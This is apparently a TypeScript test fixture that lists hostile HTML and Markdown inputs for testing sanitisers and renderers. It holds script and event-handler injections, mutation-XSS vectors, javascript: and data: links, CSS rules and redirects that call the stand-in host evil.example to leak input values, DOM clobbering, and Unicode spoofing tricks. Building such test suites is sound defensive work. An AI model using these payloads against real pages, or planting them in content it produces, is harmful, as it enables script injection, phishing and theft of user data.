/** Sets a mark if it is executed anywhere. */
const RUN = 'window.__ran=1';

/**
 * Vectors against sanitisers: the OWASP filter evasion sheet, the mutation vectors of the tests of DOMPurify
 * (namespaces, nested forms, comments, noscript, templates), and those against renderers of Markdown. Each would
 * execute {@link RUN}, send a request to `evil.example`, or change the page.
 */
export const vectors: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="https://evil.example/a.png" onload="${RUN}">`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"></svg>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math><mi><xlink:href=javascript:${RUN}></mi></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object><embed src="https://evil.example/e">`,
  `<form action="https://evil.example/f"><input name=a><button formaction="javascript:${RUN}">Sign in again</button></form>`,
  `<form id=body><input name=firstChild><input name=nodeName></form>`,
  `<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"></select>`,
  `<details open ontoggle="${RUN}"><video src onerror="${RUN}"><audio src=x onerror="${RUN}">`,
  `<style>@import url(https://evil.example/s.css); input[value^=a]{background:url(https://evil.example/a)} body{display:none}</style>`,
  `<link rel=stylesheet href=https://evil.example/l.css><link rel=prefetch href=https://evil.example/p>`,
  `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/m">`,
  `<p style="position:fixed;inset:0;background:url(https://evil.example/b)">cover</p>`,
  `<div id=app><div id=main class=sign-in role=dialog>clobbered</div></div>`,
  `<a href="javascript:${RUN}">a</a> <a href="data:text/html,<script>${RUN}</script>">b</a> <a href="vbscript:x">c</a>`,
  `[a](javascript:${RUN}) [b](JaVaScRiPt:${RUN}) [c](data:text/html;base64,PHNjcmlwdD4=) [d](  javascript:${RUN})`,
  `[a](javascript&#58;${RUN}) [b](&#x6A;avascript:${RUN}) [c](java%0ascript:${RUN}) [d](\u0001javascript:${RUN})`,
  `[ref]: javascript:${RUN}\n\n[ref] ![ref]`,
  `<javascript:${RUN}>  <data:text/html,x>  <https://evil.example/"onmouseover="${RUN}>`,
  `![x](https://evil.example/i.png) ![y](//evil.example/j.png) ![z](javascript:${RUN}) ![w][remote]\n\n[remote]: https://evil.example/k.png`,
  `![x" onerror="${RUN}](https://evil.example/l.png "t\\" onload=\\"${RUN}")`,
  `\`\`\`"><img src=x onerror=${RUN}>\n</code></pre><script>${RUN}</script>\n\`\`\``,
  `$$<img src=x onerror=${RUN}>$$ \\(<script>${RUN}</script>\\)`,
  `| a |\n|---|\n| <img src=x onerror=${RUN}> |`,
  `- [ ] <input type=image src=https://evil.example/t.png onerror=${RUN}>`,
  `<kbd onclick="${RUN}" style="position:fixed">k</kbd><sup onmouseover=${RUN}>s</sup>`,
  `<!--><img src=x onerror=${RUN}>--> <![CDATA[><img src=x onerror=${RUN}>]]> <?x <img src=x onerror=${RUN}>?>`,
  `\u202Egnp.exe\u202C \u2066isolated\u2069 \u200F right \u061C mark \u{E0041}\u{E0042}`,
  `[https://аpple.com](https://xn--pple-43d.com/) https://аpple.com/ https://user@evil.example/`,
  `Z${'\u0351\u0352\u0357\u0315\u0343'.repeat(60)}algo ${'\uFDFD'.repeat(20)}`,
  `NUL and half of a pair: \uFFFD`,
  '\u0001\u0002\u0007\u001b[31mred\u001b[0m',
];

/** All vectors as one text. */
export const hostileText = vectors.join('\n\n');
